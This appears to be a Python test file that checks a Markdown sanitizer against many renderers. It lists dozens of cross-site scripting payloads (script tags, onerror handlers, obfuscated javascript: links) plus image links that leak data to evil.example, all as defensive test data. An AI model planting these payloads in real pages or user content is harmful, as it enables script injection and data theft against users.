"""Untrusted Markdown is inert in every renderer we can reach from Python, and honest Markdown still looks right."""

import html
import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from nbconvert.filters.markdown_mistune import InvalidNotebook, markdown2html_mistune

from fastmode_magic.views.safe import safe_markdown

TAGS = set(
    [
        "p",
        "h1",
        "h2",
        "h3",
        "h4",
        "h5",
        "h6",
        "ul",
        "ol",
        "li",
        "dl",
        "dt",
        "dd",
        "blockquote",
        "pre",
        "code",
        "em",
        "strong",
        "del",
        "s",
        "a",
        "img",
        "hr",
        "br",
    ]
)
TAGS |= set(["table", "thead", "tbody", "tr", "th", "td", "input", "div", "span"])
ATTRIBUTES = {"href", "title", "src", "alt", "class", "id", "start", "type", "checked", "disabled", "style", "align"}
ALIGNED = re.compile(r"text-align: ?(?:left|right|center);?")
PICTURE = re.compile(r"data:image/(?:png|jpeg|gif|webp);base64,[A-Za-z0-9+/]+={0,2}")


class Harm(HTMLParser):
    """What a page contains that no answer may put there."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS:
            self.found.append(f"<{tag}>")
        if tag == "input" and dict(attrs).get("type") != "checkbox":
            self.found.append(f"<input {attrs}>")
        self.found += [f"{tag} {name}={value}" for name, value in attrs if not harmless(tag, name, value or "")]

    def handle_comment(self, data: str) -> None:
        self.found.append(f"<!--{data}")

    def handle_decl(self, decl: str) -> None:
        self.found.append(f"<!{decl}")

    def handle_pi(self, data: str) -> None:
        self.found.append(f"<?{data}")

    def unknown_decl(self, data: str) -> None:
        self.found.append(f"<![{data}")


def harmless(tag: str, name: str, value: str) -> bool:
    match name:
        case "src":
            return tag == "img" and PICTURE.fullmatch(value) is not None
        case "href":
            scheme = re.match(r"([a-z][a-z0-9+.-]*):", re.sub(r"[\x00-\x20]", "", value), re.IGNORECASE)
            return tag == "a" and (scheme is None or scheme[1].lower() in {"http", "https", "mailto"})
        case "style":
            return tag in {"td", "th"} and ALIGNED.fullmatch(value) is not None
        case "class":
            return not {"mermaid", "jp-Mermaid", "language-mermaid"} & set(value.split())
    return name in ATTRIBUTES


MATHSPLIT = re.compile(
    r"(\$\$?|\\(?:begin|end)\{[a-z]*\*?\}|\\[{}$]|[{}]|(?:\n\s*)+|@@\d+@@|\\\\[()\[\]])", re.IGNORECASE
)
JL_FENCE = re.compile(r"^(?P<fence>`{3,}|(~T){3,})[^`\n]*\n([\s\S]*?)^(?P=fence)`*$", re.MULTILINE)
JL_SPAN = re.compile(r"(^|[^\\])(`+)([^\n]*?[^`\n])\2(?!`)", re.MULTILINE)


def remove_math(text: str) -> tuple[str, list[str]]:
    """JupyterLab 4.6's removeMath, line for line (rendermime/src/latex.ts)."""
    coded = "`" in text or "~~~" in text
    if coded:
        text = text.replace("~", "~T")
        text = JL_FENCE.sub(lambda m: m[0].replace("$", "~D"), text)
        text = JL_SPAN.sub(lambda m: m[0].replace("$", "~D"), text)

    def plain(part: str) -> str:
        return re.sub(r"~([TD])", lambda m: "~" if m[1] == "T" else "$", part) if coded else part

    math: list[str] = []
    blocks = MATHSPLIT.split(text.replace("\r\n", "\n").replace("\r", "\n"))

    def process(i: int, j: int) -> None:
        block = "".join(blocks[i : j + 1])
        for char, entity in (("&", "&amp;"), ("<", "&lt;"), (">", "&gt;")):
            block = block.replace(char, entity)
        for k in range(j, i, -1):
            blocks[k] = ""
        blocks[i] = f"@@{len(math)}@@"
        math.append(plain(block))

    start = last = None
    end = ""
    braces = 0
    i = 1
    while i < len(blocks):
        block = blocks[i]
        if block[0] == "@":
            blocks[i] = f"@@{len(math)}@@"
            math.append(block)
        elif start is not None:
            if block == end:
                if braces:
                    last = i
                else:
                    process(start, i)
                    start = last = None
            elif re.search(r"\n.*\n", block):
                if last is not None:
                    i = last
                    process(start, i)
                start = last = None
                braces = 0
            elif block == "{":
                braces += 1
            elif block == "}" and braces:
                braces -= 1
        elif block in {"$", "$$"} or block in {r"\\(", r"\\["} or block[1:6] == "begin":
            start, braces = i, 0
            end = {r"\\(": r"\\)", r"\\[": r"\\]"}.get(block, block if block[0] == "$" else r"\end" + block[6:])
        i += 2
    if start is not None and last is not None:
        process(start, last)
    return plain("".join(blocks)), math


def replace_math(page: str, math: list[str]) -> str:
    def put(found: re.Match[str]) -> str:
        group = math[int(found[1])]  # JupyterLab raises here too
        for left, right in ((r"\\(", r"\\)"), (r"\\[", r"\\]")):
            if group.startswith(left) and group.endswith(right):
                group = left[1:] + group[3:-3] + right[1:]
        return group

    return re.sub(r"@@(\d+)@@", put, page)


COMMONMARK = MarkdownIt("commonmark", {"html": True})
GFM = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
for parser in (COMMONMARK, GFM):
    parser.validateLink = lambda url: True  # type: ignore[method-assign]
HONEST = MarkdownIt("commonmark", {"html": False}).enable(["table", "strikethrough"])


def jupyterlab(text: str) -> str:
    stripped, math = remove_math(text)
    return replace_math(GFM.render(stripped), math)


RENDERERS = {
    "commonmark": COMMONMARK.render,
    "gfm": GFM.render,
    "nbconvert": markdown2html_mistune,
    "jupyterlab": jupyterlab,
}


def harm(text: str) -> list[str]:
    found = []
    for name, render in RENDERERS.items():
        judge = Harm()
        judge.feed(render(text))
        judge.close()
        found += [f"{name}: {what}" for what in judge.found]
    return found


X = "<img src=x onerror=alert(1)>"
ATTACKS = [
    X,
    "<script>alert(1)</script>",
    "<style>*{display:none}</style>",
    "<base href=//evil.example>",
    "<form action=//evil.example><input></form>",
    "<!-- c --> <![CDATA[x]]> <?php x ?> <!DOCTYPE html>",
    f"<!--\n{X}\n-->",
    "<div\nonclick=alert(1)>",
    f"- {X}\n\n      {X}",
    f"    {X}",
    f"\t{X}",
    f"text\n    {X}",
    f"a\x0b{X}\x0c{X}\u2028{X}\x85{X}\x00{X}",
    "![x](https://evil.example/?q=secret)",
    "![x][y]\n\n[y]: https://evil.example/",
    "![x]\n\n[x]: https://evil.example/",
    "!![x](https://evil.example/)",
    "\\![x](data:image/png;base64,AAAA)",
    "![x](data:image/svg+xml;base64,AAAA)",
    "![x](attachment:a.png)",
    '![$" onerror=alert(1) x="$](data:image/png;base64,AAAA)',
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](<javascript:alert(1)>)",
    "[a](\njavascript:alert(1))",
    "> [a](\n> javascript:alert(1))",
    "> [a](\njavascript:alert(1))",
    "[a](javascript&#58;alert(1))",
    "[a](javascript&colon;alert(1))",
    "[a](java&Tab;script:alert(1))",
    "[a](java&#115;cript:alert(1))",
    "[a](&#000000000000106;avascript:alert(1))",
    "[a](java\\script:alert(1)) [b](javascript\\:alert(1))",
    "[a](\x01javascript:alert(1)) [b](java\x00script:alert(1))",
    "[a](data:text/html;base64,PHNjcmlwdD4=) [b](vbscript:x) [c](file:///etc/passwd)",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x]: <javascript:alert(1)>\n\n[x]",
    "[x]:\n  javascript:alert(1)\n\n[x]",
    "> [x]: javascript:alert(1)\n\n[x]",
    "- [x]: javascript:alert(1)\n\n[x]",
    "[a\nb]: javascript:alert(1)\n\n[a b]",
    "<javascript:alert(1)> <https://a.example/> <a@b.example>",
    "\\\\[ x \\\\](javascript:alert(1))",
    '[x](http://a.example/$ " onmouseover=alert(1) x="$)',
    'http://a.example/$"onmouseover=alert(1)//$',
    '[x](/u "@\\@0@@") $" onmouseover=alert(1) x="$',
    f"$a ` $ {X}\n`",
    f"`\\begin{{a}}` \\end{{a}} `{X}`",
    f"`$` $ `{X}`",
    f"costs $5 and `$x` or `{X}`",
    f"`$$`\n\n```\n$$ {X}\n```",
    f"$$\n\n```\n$$ {X}\n```",
    f"# $$\na $$\n\n```\n$$ {X}\n```",
    f"> q\n$$\n- x\n$$\n\n  ```\n  $$ {X}\n  ```",
    f"```\n\\begin{{a}}\n```\n\\end{{a}}\n```\n{X}",
    f"> $a\n>\n> ```\n> $ {X}\n> ```",
    f"| `a | {X} b` |\n|---|---|\n| `a | {X} b` | c |",
    f"| a | b |\n|---|---|\n| `a | b` `{X}` |",
    f"[a](/u '`'){X}`",
    f"[a](<`>){X}`",
    f"http://a.example/`{X}`",
    f"<1`@a.example>{X}`",
    f"~~a `~~ {X}`",
    f"*a `* {X}`",
    f"[a `]({X}) `",
    f"\\`{X}`",
    f"`a\n{X}`",
    f"``a` {X}``",
    f"- ```html\n{X}\n  ```",
    f"1. > ```\n   > {X}\n   > ```\n{X}",
    f"- > ~~~\n{X}\n  > ~~~",
    f"  > ```\n> {X}\n  > ```",
    f"> ```\n{X}\n> ```",
    f"text\n      ```\n{X}\n      ```",
    f"\t```\n{X}\n\t```",
    f"```\n{X}\n``` x\n{X}\n```\n{X}",
    f"~~~\n```\n~~~\n{X}\n```",
    f"```{X}\n```",
    f"``` a`b\n{X}\n```",
    f"```mermaid\n{X}\n```",
    f"text\n  \n```\n{X}\n```\n\n: definition",
    f'[x]: /u "\n\n```\n"\n{X}\n```',
    f'[x]: /u\n"`{X}`\n"',
    f"[^1]: {X}\n",
    "@@0@@ @\\@0@@ $x$",
    f"{X}\n===\n\n{X}\n---",
    f"term\n: {X}\n: ```\n  {X}\n  ```",
]


@pytest.mark.parametrize("text", ATTACKS, ids=range(len(ATTACKS)))
def test_an_attack_does_nothing(text: str) -> None:
    safe = safe_markdown(text)
    assert harm(safe) == []
    assert safe_markdown(safe) == safe


def test_the_judge_sees_the_attacks() -> None:
    """Most attacks are live before they are made safe: a judge that sees nothing would prove nothing."""
    live = 0
    for text in ATTACKS:
        try:
            live += bool(harm(text))
        except (IndexError, InvalidNotebook):  # the renderer itself falls over
            live += 1
    assert live > 0.8 * len(ATTACKS)
    assert harm("[a](/u) **b** `c`\n\n![p](data:image/png;base64,AAAA)\n\n|a|\n|:-:|\n|b|") == []


@pytest.mark.parametrize(
    "macro", ["href{javascript:alert(1)}{x}", "require{a}", "htmlData{a=b}{x}", "includegraphics{a}"]
)
def test_a_macro_of_mathjax_or_katex_loses_its_name(macro: str) -> None:
    for text in (f"$\\{macro}$", f"$$\n\\\\{macro}\n$$", f"\\$&#92;{macro}\\$", f"a &#x5c;{macro} &bsol;{macro}"):
        shown = html.unescape(safe_markdown(text))
        assert not re.search(r"\\(?:href|require|htmlData|includegraphics)", shown)
    assert safe_markdown(r"$\hrefs \classical \urls$") == r"$\hrefs \classical \urls$"


FRAGMENTS = [
    *(X, "<script>", "<b>", "</a>", "<!--", "-->", "<", ">", "&lt;", "&#106;", "&colon;", "&#96;", "&"),
    *("`", "`", "``", "```", "````", "\n```\n", "\n```html\n", "\n~~~\n", "~~~", "~~", "~", "    ", "\t", "  "),
    *("$", "$", "$$", "\n$$\n", "\\begin{a}", "\\end{a}", "\\\\(", "\\\\)", "\\\\[", "\\\\]", "{", "}", "\\$"),
    *("|", "\n|-|-|\n", "\n| ", "\n> ", "> ", "\n- ", "- ", "\n1. ", "\n  ", "\n      ", "\n# ", "\n: ", "\n---\n"),
    *(
        "[x](",
        "javascript:alert(1)",
        ")",
        "![",
        "![x]",
        "[",
        "]",
        "(",
        "]: ",
        "[x]: ",
        "\n[x]: ",
        "[x]",
        "](",
        '"',
        "'",
    ),
    *("\\", "\\\\", "@@0@@", "\\@", "@", "a", "b c", "*", "**", "_", "!", ":", "http://a.b/", "www.a.b", "ftp://a.b"),
    *("\n", "\n", "\n\n", "\n \n", " ", " ", ".", "\u2028", "\x0b", "\xa0", "mermaid", "onmouseover=alert(1)"),
    "![x](data:image/png;base64,AAAA)",
]
HOSTILE = st.lists(st.sampled_from(FRAGMENTS), max_size=24).map("".join)


@settings(max_examples=300, derandomize=True, deadline=None, database=None)
@given(HOSTILE)
def test_hostile_fragments_do_nothing_in_any_order(text: str) -> None:
    safe = safe_markdown(text)
    assert harm(safe) == []
    assert safe_markdown(safe) == safe
    for name, render in RENDERERS.items():
        assert "<p>STATUS</p>" in render(f"{safe}\n\nSTATUS"), name
